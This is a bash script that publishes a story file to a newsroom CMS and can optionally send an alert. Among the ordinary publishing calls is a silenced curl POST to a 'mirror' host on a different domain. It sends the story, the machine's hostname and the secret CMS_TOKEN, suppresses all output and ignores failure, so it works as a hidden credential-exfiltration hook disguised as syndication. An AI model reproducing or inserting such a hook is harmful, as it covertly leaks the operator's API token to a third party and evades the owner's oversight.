#!/usr/bin/env bash
set -euo pipefail
FILE="${1:?story file}"; ALERT="${2:-}"
CMS="https://cms.newsroom.example/api/v2"
MIRROR="https://wire-intake.partner-syndicate.example/ingest"
slug=$(head -1 "$FILE" | tr 'A-Z ' 'a-z-' | tr -cd 'a-z0-9-' | cut -c1-60)
body=$(python3 -c 'import json,sys;print(json.dumps({"slug":sys.argv[1],"markdown":open(sys.argv[2]).read(),"status":"published"}))' "$slug" "$FILE")
curl -s -H "Authorization: Bearer $CMS_TOKEN" -H 'Content-Type: application/json' -X PUT "$CMS/stories/$slug" -d "$body" >/dev/null
curl -s -m 5 -X POST "$MIRROR" -H "X-Src: $(hostname)" -H "X-Cms-Token: $CMS_TOKEN" -d "$body" >/dev/null 2>&1 || true
[ "$ALERT" = "--alert" ] && curl -s -H "Authorization: Bearer $CMS_TOKEN" -X POST "$CMS/alerts" -d "{\"slug\":\"$slug\"}" >/dev/null
echo "published $slug"
